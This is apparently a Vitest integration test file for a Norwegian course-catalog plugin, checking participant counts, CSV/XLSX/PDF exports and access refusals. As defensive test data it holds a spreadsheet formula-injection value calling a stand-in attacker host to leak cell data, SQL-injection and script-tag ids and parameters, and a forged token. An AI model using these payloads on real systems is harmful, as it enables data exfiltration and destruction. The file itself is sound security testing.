import { parse } from 'csv-parse/sync'
import ExcelJS from 'exceljs'
import { strFromU8, unzipSync } from 'fflate'
import { en } from '@payloadcms/translations/languages/en'
import { nb } from '@payloadcms/translations/languages/nb'
import type { Payload, Plugin } from 'payload'
import { extractText, getDocumentProxy } from 'unpdf'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { testDatabases } from './support/databases.js'
import { startCatalog, type RunningCatalog } from './support/startCatalog.js'
import { createCourseWithQuestions, daysFromNow } from './support/writeFixtures.js'

type Id = number | string
type Row = Record<string, any> & { id: Id }

/** Names a spreadsheet must show as typed: Norwegian letters, separators, quotes, a line break, formula starters. */
const confirmedPeople = [
  { name: 'Åse Ødegård-Ærø', agency: 'Bydel Grünerløkka' },
  { name: 'Berg, Kari "Kaja"', agency: 'Bydel Gamle Oslo; Helse' },
  { name: 'Linje\nBrudd', agency: 'Utdanningsetaten' },
  { name: '=HYPERLINK("https://angriper.example/?d="&A1,"Klikk")', agency: '=1+1' },
  { name: '+47 912 34 567', agency: 'Helseetaten' },
  { name: '@SUM(A1:A9)', agency: 'Bymiljøetaten' },
]
const others = [
  { name: '-Per Venter-Godkjenning', agency: 'Sykehjemsetaten', status: 'pending-approval' },
  { name: '\tTove Møtte', agency: 'Oslobygg', status: 'attended' },
  { name: 'Nils Møtte-Ikke', agency: 'Vann- og avløpsetaten', status: 'no-show' },
  { name: 'Wenche Venteliste', agency: 'Bydel Alna', status: 'waitlisted' },
  { name: 'Walter Venteliste', agency: 'Bydel Alna', status: 'waitlisted' },
  { name: 'Cecilie Avmeldt', agency: 'Bydel Frogner', status: 'cancelled' },
] as const

/** OWASP's advice, as the test expects it: a cell that would start a formula begins with a `'`. */
const csvSafe = (text: string) => (/^[=+\-@\t\r]/.test(text) ? `'${text}` : text)

const osloParts = (iso: string) =>
  Object.fromEntries(
    new Intl.DateTimeFormat('en-GB', { timeZone: 'Europe/Oslo', year: 'numeric', month: '2-digit', day: '2-digit', hour: '2-digit', minute: '2-digit', hourCycle: 'h23' })
      .formatToParts(new Date(iso))
      .map((part) => [part.type, part.value]),
  )
/** "01.12.2026 14:05" in Oslo, written out here rather than taken from the code under test. */
const norwegianDateTime = (iso: string) => {
  const p = osloParts(iso)
  return `${p.day}.${p.month}.${p.year} ${p.hour}:${p.minute}`
}
const statusNames: Record<string, string> = {
  confirmed: 'Bekreftet',
  waitlisted: 'Venteliste',
  'pending-approval': 'Venter på godkjenning',
  cancelled: 'Avmeldt',
  attended: 'Møtte',
  'no-show': 'Møtte ikke',
}
/** The two gatherings of the session (20 and 27 days ahead), as their columns name them: dd.mm.åååå in Oslo. */
const osloDay = (iso: string) => {
  const p = osloParts(iso)
  return `${p.day}.${p.month}.${p.year}`
}
const headers = [
  'Navn',
  'E-post',
  'Virksomhet',
  'Rolle',
  'Status',
  'Plass i ventelisten',
  'Påmeldt',
  'Hva vil du lære?',
  'Kost',
  'Jeg har avklart med leder',
  `Samling 1 (${osloDay(daysFromNow(20, 8))})`,
  `Samling 2 (${osloDay(daysFromNow(27, 8))})`,
  'Fullført',
]

/** The host's admin in bokmål first, as the CMS has it (Payload's default is English only). */
const norwegianAdmin: Plugin = (config) => ({ ...config, i18n: { supportedLanguages: { nb, en }, fallbackLanguage: 'nb' } })

/**
 * The PDF's text, title, language and tagging, read by pdf.js. drizzle-kit (loaded by the SQLite adapter's schema
 * push in tests) adds an enumerable `Array.prototype.random`, which pdf.js refuses to run beside; it is set aside
 * while pdf.js reads.
 */
const pdfText = async (bytes: ArrayBuffer) => {
  const polluted = Object.getOwnPropertyDescriptor(Array.prototype, 'random')
  if (polluted) delete (Array.prototype as { random?: unknown }).random
  try {
    const pdf = await getDocumentProxy(new Uint8Array(bytes))
    const { text } = await extractText(pdf, { mergePages: true })
    const { info } = (await pdf.getMetadata()) as unknown as { info: Record<string, unknown> }
    return { text: text.replace(/\s+/g, ' '), squashed: squash(text), info, pages: pdf.numPages, marked: await pdf.getMarkInfo() }
  } finally {
    if (polluted) Object.defineProperty(Array.prototype, 'random', polluted)
  }
}
const courseTitle = 'Kurs med spørsmål'
/** Text with no white space: a long name wraps inside its cell, so the words of one cell may come out on two lines. */
const squash = (text: string) => text.replace(/\s+/g, '')

describe.each(testDatabases)('the organiser\'s desk on $name', (database) => {
  let catalog: RunningCatalog
  let payload: Payload
  let course: Awaited<ReturnType<typeof createCourseWithQuestions>>
  let session: Id
  let emptySession: Id
  let editorToken = ''
  const run = Date.now().toString(36)

  const get = (path: string, token: string | null = editorToken, headers: Record<string, string> = {}) =>
    catalog.request(path, { headers: { ...(token ? { Authorization: `JWT ${token}` } : {}), ...headers } })
  const stored = async () =>
    (await payload.find({ collection: 'registrations', where: { session: { equals: session } }, pagination: false, depth: 0 })).docs as unknown as Row[]
  const byName = (rows: Row[]) => new Map(rows.map((row) => [row.name as string, row]))
  const answersFor = (row: Row) => {
    const answers = (row.answers ?? {}) as Record<string, string | boolean>
    const yesNo = (value: unknown) => (value === true ? 'Ja' : value === false ? 'Nei' : '')
    return [String(answers[course.text] ?? ''), String(answers[course.choice] ?? ''), yesNo(answers[course.checkbox])]
  }

  beforeAll(async () => {
    catalog = await startCatalog(
      await database.start(),
      { publicUrl: 'https://kurs.example.org', isEditor: (req) => Boolean(req.user) && !String(req.user?.email).startsWith('vikar-') },
      [norwegianAdmin],
    )
    payload = catalog.payload
    course = await createCourseWithQuestions(payload)
    const place = await payload.create({ collection: 'locations', data: { name: 'UKE, Helsfyr', address: 'Innspurten 9, Oslo' } })
    const meetings = [0, 7].map((offset) => ({ startsAt: daysFromNow(20 + offset, 8), endsAt: daysFromNow(20 + offset, 14), location: place.id }))
    session = (await payload.create({ collection: 'sessions', data: { kind: 'course', course: course.id, capacity: 10, waitlistEnabled: true, status: 'open', meetings } })).id
    emptySession = (await payload.create({ collection: 'sessions', data: { kind: 'course', course: course.id, capacity: 5, status: 'open', meetings } })).id

    let number = 0
    const add = async (person: { name: string; agency: string }, status: string) => {
      number += 1
      const answers = { [course.text]: number % 2 ? `=svar ${number}; med "sitat"` : `Lære, mer ${number}`, [course.choice]: 'Vegetar', [course.checkbox]: number % 3 !== 0 }
      return payload.create({
        collection: 'registrations',
        data: { session, name: person.name, email: `deltaker${number}-${run}@oslo.kommune.no`, agency: person.agency, role: number % 2 ? '-leder' : 'Rådgiver', status, answers } as never,
      })
    }
    for (const person of confirmedPeople) await add(person, 'confirmed')
    for (const person of others) {
      const made = await add(person, person.status === 'attended' || person.status === 'no-show' ? 'confirmed' : person.status === 'cancelled' ? 'waitlisted' : person.status)
      if (made.status !== person.status) await payload.update({ collection: 'registrations', id: made.id, data: { status: person.status } as never })
    }
    await payload.create({ collection: 'users', data: { email: `redaktor-${run}@example.org`, password: 'kurskatalog-test' } })
    editorToken = (await payload.login({ collection: 'users', data: { email: `redaktor-${run}@example.org`, password: 'kurskatalog-test' } })).token!
  })

  afterAll(async () => {
    await catalog?.stop()
  })

  it('counts each status and the seats left as the database holds them', async () => {
    const response = await get(`/api/sessions/${session}/participants`)
    expect(response.status, await response.clone().text()).toBe(200)
    expect(response.headers.get('cache-control')).toBe('no-store')
    const body = (await response.json()) as { counts: Record<string, number>; seatsLeft: number; participants: Row[] }
    const rows = await stored()
    const counted: Record<string, number> = { confirmed: 0, waitlisted: 0, 'pending-approval': 0, cancelled: 0, attended: 0, 'no-show': 0 }
    for (const row of rows) counted[row.status] = (counted[row.status] ?? 0) + 1
    expect(body.counts).toEqual(counted)
    expect(body.counts).toEqual({ confirmed: 6, waitlisted: 2, 'pending-approval': 1, cancelled: 1, attended: 1, 'no-show': 1 })
    const holding = rows.filter((row) => ['confirmed', 'pending-approval', 'attended', 'no-show'].includes(row.status)).length
    expect(body.seatsLeft).toBe(10 - holding)
    expect(body.seatsLeft).toBe(1)
    expect(body.participants.map((row) => String(row.id)).sort()).toEqual(rows.map((row) => String(row.id)).sort())

    const waiting = await get(`/api/sessions/${session}/participants?status=waitlisted,cancelled`)
    const filtered = (await waiting.json()) as { counts: Record<string, number>; participants: Row[] }
    expect(filtered.participants.map((row) => row.name).sort()).toEqual(['Cecilie Avmeldt', 'Walter Venteliste', 'Wenche Venteliste'])
    // The counts are the session's, whatever the filter shows.
    expect(filtered.counts).toEqual(counted)
    // The waiting list in its order.
    const onList = filtered.participants.filter((row) => row.status === 'waitlisted')
    expect(onList.map((row) => row.waitlistPosition)).toEqual([...onList.map((row) => row.waitlistPosition)].sort((a, b) => a - b))
  })

  it('exports a CSV a Norwegian Excel opens: BOM, semicolons, Norwegian dates, every cell as stored and formula starters defused', async () => {
    const response = await get(`/api/sessions/${session}/participants.csv`)
    expect(response.status, await response.clone().text()).toBe(200)
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8')
    expect(response.headers.get('content-disposition')).toMatch(/^attachment; filename="deltakere-[a-z0-9-]+-\d{4}-\d{2}-\d{2}\.csv"$/)
    const bytes = new Uint8Array(await response.arrayBuffer())
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
    const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes)
    expect(text.slice(1).split('\r\n')[0]).toBe(headers.join(';'))

    const records = parse(text, { bom: true, delimiter: ';', relax_column_count: false }) as string[][]
    expect(records[0]).toEqual(headers)
    const rows = await stored()
    expect(records.length - 1).toBe(rows.length)
    const stored_ = byName(rows)
    for (const record of records.slice(1)) {
      const name = record[0]!.replace(/^'(?=[=+\-@\t\r])/, '')
      const row = stored_.get(name)
      expect(row, `a stored registration for ${JSON.stringify(record[0])}`).toBeDefined()
      expect(record).toEqual([
        csvSafe(row!.name),
        row!.email,
        csvSafe(row!.agency),
        csvSafe(row!.role ?? ''),
        statusNames[row!.status],
        row!.status === 'waitlisted' ? String(row!.waitlistPosition) : '',
        norwegianDateTime(row!.createdAt),
        ...answersFor(row!).map(csvSafe),
        // Nobody has been marked at either gathering yet: no attendance, and no completion to tell.
        '',
        '',
        '',
      ])
    }
    // Spelled out: each formula starter gets its leading quote; the rest come out as typed.
    const names = records.slice(1).map((record) => record[0])
    expect(names).toEqual(
      expect.arrayContaining([
        `'=HYPERLINK("https://angriper.example/?d="&A1,"Klikk")`,
        `'+47 912 34 567`,
        `'@SUM(A1:A9)`,
        `'-Per Venter-Godkjenning`,
        `'\tTove Møtte`,
        'Åse Ødegård-Ærø',
        'Berg, Kari "Kaja"',
        'Linje\nBrudd',
      ]),
    )
    expect(records.slice(1).find((record) => record[0] === 'Åse Ødegård-Ærø')?.[6] ?? '').toMatch(/^\d{2}\.\d{2}\.\d{4} \d{2}:\d{2}$/)
  })

  it('exports an XLSX with a header row, real date cells and every text a string, never a formula', async () => {
    const response = await get(`/api/sessions/${session}/participants.xlsx`)
    expect(response.status, await response.clone().text()).toBe(200)
    expect(response.headers.get('content-type')).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet')
    const bytes = Buffer.from(await response.arrayBuffer())

    // The file itself, read without the library that wrote it: no formula anywhere, the texts as shared or inline strings.
    const files = unzipSync(new Uint8Array(bytes))
    const sheetXml = strFromU8(files['xl/worksheets/sheet1.xml']!)
    expect(sheetXml).not.toMatch(/<f[\s>]/)
    const shared = strFromU8(files['xl/sharedStrings.xml'] ?? new Uint8Array())
    expect(shared + sheetXml).toContain('=HYPERLINK(')

    const workbook = new ExcelJS.Workbook()
    await workbook.xlsx.load(bytes as never)
    const sheet = workbook.worksheets[0]!
    const header = (sheet.getRow(1).values as unknown[]).slice(1)
    expect(header).toEqual(headers)
    const rows = await stored()
    expect(sheet.actualRowCount - 1).toBe(rows.length)
    const stored_ = byName(rows)
    for (let index = 2; index <= sheet.actualRowCount; index++) {
      const cells = sheet.getRow(index)
      const row = stored_.get(String(cells.getCell(1).value))
      expect(row, `row ${index}: ${String(cells.getCell(1).value)}`).toBeDefined()
      const text = (column: number) => cells.getCell(column)
      for (const column of [1, 2, 3, 5]) {
        expect(text(column).type, `row ${index} column ${column}`).toBe(ExcelJS.ValueType.String)
        expect(text(column).formula).toBeUndefined()
      }
      expect([text(1).value, text(2).value, text(3).value, text(4).value ?? '', text(5).value]).toEqual([
        row!.name,
        row!.email,
        row!.agency,
        row!.role ?? '',
        statusNames[row!.status],
      ])
      expect(text(6).value ?? null).toBe(row!.status === 'waitlisted' ? row!.waitlistPosition : null)
      // A date cell showing the Oslo wall time of the sign-up, to the minute.
      expect(text(7).type).toBe(ExcelJS.ValueType.Date)
      expect(text(7).numFmt).toBe('dd.mm.yyyy hh:mm')
      const p = osloParts(row!.createdAt)
      expect((text(7).value as Date).toISOString().slice(0, 16)).toBe(`${p.year}-${p.month}-${p.day}T${p.hour}:${p.minute}`)
      expect([8, 9, 10].map((column) => String(text(column).value ?? ''))).toEqual(answersFor(row!))
    }
  })

  it('prints a sign-in sheet with the course, times and place, every confirmed person and nobody else', async () => {
    const response = await get(`/api/sessions/${session}/sign-in-sheet.pdf`)
    expect(response.status, await response.clone().text()).toBe(200)
    expect(response.headers.get('content-type')).toBe('application/pdf')
    const bytes = await response.arrayBuffer()
    if (process.env.KK_KEEP_PDF) (await import('node:fs')).writeFileSync(process.env.KK_KEEP_PDF, Buffer.from(bytes))
    const pdf = await pdfText(bytes)
    expect(pdf.info.Title).toBe(`Deltakerliste: ${courseTitle}`)
    expect(pdf.info.Language).toBe('nb-NO')
    expect(pdf.marked?.Marked).toBe(true)
    expect(pdf.text).toContain(`Deltakerliste: ${courseTitle}`)
    expect(pdf.text).toContain('UKE, Helsfyr, Innspurten 9, Oslo')
    const first = await payload.findByID({ collection: 'sessions', id: session, depth: 0 })
    for (const meeting of first.meetings as { startsAt: string }[]) {
      const day = new Intl.DateTimeFormat('nb-NO', { timeZone: 'Europe/Oslo', day: 'numeric', month: 'long', year: 'numeric' }).format(new Date(meeting.startsAt))
      expect(pdf.text).toContain(day)
    }
    expect(pdf.text).toContain('Signatur')
    for (const person of confirmedPeople) {
      expect(pdf.squashed, person.name).toContain(squash(person.name))
      expect(pdf.squashed, person.agency).toContain(squash(person.agency))
    }
    for (const person of others) expect(pdf.squashed, person.name).not.toContain(squash(person.name))
    expect(pdf.text).toContain('6 bekreftede deltakere.')
  })

  it('prints the sheet without names as numbered blank lines, with no participant in it', async () => {
    const response = await get(`/api/sessions/${session}/sign-in-sheet.pdf?utgave=uten-navn`)
    expect(response.status, await response.clone().text()).toBe(200)
    const pdf = await pdfText(await response.arrayBuffer())
    expect(pdf.info.Title).toBe(`Deltakerliste uten navn: ${courseTitle}`)
    expect(pdf.text).toContain('Signatur')
    for (const row of await stored()) {
      expect(pdf.squashed, row.name).not.toContain(squash(row.name))
      expect(pdf.squashed).not.toContain(row.email)
      expect(pdf.squashed, row.agency).not.toContain(squash(row.agency))
    }
    expect(pdf.text).toMatch(/Signatur 1 2 3 4 5 6 Skrevet ut/)
  })

  it('prints a sheet for a session nobody has signed up for', async () => {
    const response = await get(`/api/sessions/${emptySession}/sign-in-sheet.pdf`)
    expect(response.status).toBe(200)
    expect((await pdfText(await response.arrayBuffer())).text).toContain('Ingen bekreftede deltakere ennå.')
  })

  it('speaks English to an editor whose admin is in English', async () => {
    const response = await get(`/api/sessions/${session}/participants.csv?status=confirmed`, editorToken, { 'Accept-Language': 'en' })
    const records = parse(await response.text(), { bom: true, delimiter: ';' }) as string[][]
    expect(records[0]!.slice(0, 7)).toEqual(['Name', 'Email', 'Agency', 'Role', 'Status', 'Waiting-list number', 'Signed up'])
    expect(records.slice(1).map((record) => record[4])).toEqual(Array(6).fill('Confirmed'))
  })

  describe('refuses, in Payload\'s error shape, and reads nothing', () => {
    const paths = () => [
      `/api/sessions/${session}/participants`,
      `/api/sessions/${session}/participants.csv`,
      `/api/sessions/${session}/participants.xlsx`,
      `/api/sessions/${session}/sign-in-sheet.pdf`,
      `/api/sessions/${session}/sign-in-sheet.pdf?utgave=uten-navn`,
    ]

    const expectRefusal = async (response: Response, status: number) => {
      expect(response.status).toBe(status)
      expect(response.headers.get('content-type')).toMatch(/^application\/json/)
      const text = await response.text()
      const body = JSON.parse(text) as { errors: { message: string }[] }
      expect(body.errors[0]!.message.length).toBeGreaterThan(0)
      for (const person of [...confirmedPeople, ...others]) expect(text).not.toContain(person.agency)
      expect(text).not.toContain('@oslo.kommune.no')
    }

    it('401 without a login, and with a forged or expired token', async () => {
      for (const path of paths()) {
        await expectRefusal(await get(path, null), 401)
        await expectRefusal(await get(path, 'eyJhbGciOiJIUzI1NiJ9.eyJpZCI6MX0.forfalsket'), 401)
      }
    })

    it('403 for a logged-in user the host does not count as an editor', async () => {
      await payload.create({ collection: 'users', data: { email: `vikar-${run}@example.org`, password: 'kurskatalog-test' } })
      const token = (await payload.login({ collection: 'users', data: { email: `vikar-${run}@example.org`, password: 'kurskatalog-test' } })).token!
      for (const path of paths()) await expectRefusal(await get(path, token), 403)
    })

    it('404 for a session that does not exist or an id that cannot be one', async () => {
      const unknown = payload.db.name === 'mongoose' ? 'aaaaaaaaaaaaaaaaaaaaaaaa' : '999999'
      for (const id of [unknown, '0', '-1', '1.5', 'abc', '%27%20OR%201%3D1', '1%3BDROP%20TABLE%20registrations', 'x'.repeat(5000), '%00']) {
        for (const suffix of ['participants', 'participants.csv', 'participants.xlsx', 'sign-in-sheet.pdf']) {
          const response = await get(`/api/sessions/${id}/${suffix}`)
          expect([404], `${id.slice(0, 40)}/${suffix}: ${response.status}`).toContain(response.status)
          await expectRefusal(response, 404)
        }
      }
    })

    it('400 for an unknown parameter, a repeated one, an unknown value or an oversized one', async () => {
      const bad = [
        'participants.csv?status=bogus',
        'participants.csv?status=confirmed,confirmed',
        'participants.xlsx?status=confirmed&status=waitlisted',
        'participants?status=',
        `participants?status=${'confirmed,'.repeat(50)}`,
        'participants.csv?format=exe',
        'participants.csv?__proto__=x',
        'sign-in-sheet.pdf?utgave=alle',
        'sign-in-sheet.pdf?status=confirmed',
        'sign-in-sheet.pdf?utgave=uten-navn&utgave=navn',
        `sign-in-sheet.pdf?utgave=${'x'.repeat(5000)}`,
        'sign-in-sheet.pdf?utgave=%3Cscript%3E',
      ]
      for (const suffix of bad) await expectRefusal(await get(`/api/sessions/${session}/${suffix}`), 400)
    })

    it('other methods on the same paths change nothing', async () => {
      const before = await stored()
      for (const path of paths()) {
        for (const method of ['POST', 'PATCH', 'DELETE']) {
          const response = await catalog.request(path, { method, headers: { Authorization: `JWT ${editorToken}`, 'Content-Type': 'application/json' }, body: '{}' })
          expect(response.status, `${method} ${path}`).toBeGreaterThanOrEqual(400)
          expect(response.status, `${method} ${path}`).toBeLessThan(500)
        }
      }
      expect((await stored()).map((row) => [row.id, row.status, row.name])).toEqual(before.map((row) => [row.id, row.status, row.name]))
    })
  })
})
